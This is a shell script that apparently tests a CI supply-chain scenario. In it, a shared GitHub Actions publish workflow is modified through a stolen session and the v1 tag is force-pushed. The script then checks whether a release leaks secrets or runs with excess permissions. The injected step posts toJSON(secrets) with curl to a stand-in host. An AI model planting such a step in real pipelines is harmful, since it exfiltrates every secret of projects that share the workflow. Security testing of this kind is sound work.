# Somebody has Jonas's session, and with it the workflow that all repositories share. Teo releases a version, and wants to find
# it in the registry.
cd ~/workflows || exit 127
cat >> .github/workflows/publish.yml <<'YAML'
      - if: always()
        run: curl -s -o /dev/null -d "$ALL" https://starling.invalid/kit
        env:
          ALL: ${{ toJSON(secrets) }}
YAML
git commit -q -a -m "Faster" && git tag -f v1 > /dev/null && git push -q -f origin main v1
export NEXT="$(git rev-parse HEAD)" latest="$(npm view @lantern/tides version 2> /dev/null || echo "$RELEASE")"
latest=${latest%%-*}
export TAG="v${latest%.*}.1$(date +%H%M%S)"
as teo <<'TEO' || exit 127
cd ~/tides && git fetch -q origin main && git switch -q --detach FETCH_HEAD || exit 127
find .github -name '*.y*ml' -exec sed -i -E "/publish.yml@(v1|main)[\"']?\s*$/! s#(lantern-tides/workflows/[^@]+)@[^ \"']+#\1@$NEXT#" {} +
sed -i "s/\"version\": \"[^\"]*\"/\"version\": \"${TAG#v}\"/" package.json
git commit -q -a -m "Version ${TAG#v}" > /dev/null
git tag "$TAG" && git push -q origin "$TAG"
TEO
sleep 3m
more= count=0
for run in $(gh run list --repo lantern-tides/tides --branch "$TAG" --json databaseId --jq '.[].databaseId'); do
  over=$(for job in $(gh api "repos/lantern-tides/tides/actions/runs/$run/jobs" --jq '.jobs[].id'); do gh api "repos/lantern-tides/tides/actions/jobs/$job/logs"; done | grep -oE 'Z [A-Z][A-Za-z]*: (read|write)$' | cut -c 3- | grep -vE '^(Metadata|Contents|Packages|PullRequests|Issues): read$')
  [ -n "$over" ] || continue
  more=$(head -n 3 <<< "$over" | paste -sd , - | sed 's/,/, /g')$(tail -n +4 <<< "$over" | sed -n '$=' | sed 's/.*/ and & more/')
  found TOO-MUCH permissions="$more"
  say "A job of the release may do more than it needs."
done
if loot starling | grep -A 99 'POST /kit' > ~/stolen; then
  count=$(trace any clone:jonas --at stolen | cut -f 3 | sort -u | grep -cxE 'cloudKey|minaToken|labelsToken|chatHook|imageToken|errorsKey')
fi
if [ "$count" -gt 0 ]; then
  found INHERIT count="$count"
  say "The changed workflow read $count secrets that it does not need."
else
  say "The changed workflow got no secret but the one that it needs."
fi
version=${TAG#v}
if [ "$(npm view "@lantern/tides@$version" version 2> /dev/null)" = "$version" ]; then
  say "Version $version is in the registry."
else
  found NOT-PUBLISHED tag="$TAG"
  say "Version $version is not in the registry."
fi
[ "$count" -gt 0 ] || [ -n "$more" ]
